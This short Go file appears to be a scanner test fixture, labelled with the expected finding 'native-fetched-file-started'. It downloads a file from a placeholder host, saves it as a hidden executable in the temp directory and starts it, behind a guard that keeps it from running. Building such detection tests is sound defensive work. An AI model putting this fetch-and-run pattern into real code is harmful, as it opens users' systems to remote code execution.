/* A program is fetched and started without a look at it.
 * expect: native-fetched-file-started
 */
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

// Never true: the code is compiled and cannot run.
var never bool

func main() {
	if !never {
		return
	}
	answer, err := http.Get("https://x.invalid/tool")
	if err != nil {
		return
	}
	path := filepath.Join(os.TempDir(), ".example")
	file, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY, 0755)
	if err != nil {
		return
	}
	io.Copy(file, answer.Body)
	file.Close()
	exec.Command(path).Start()
}
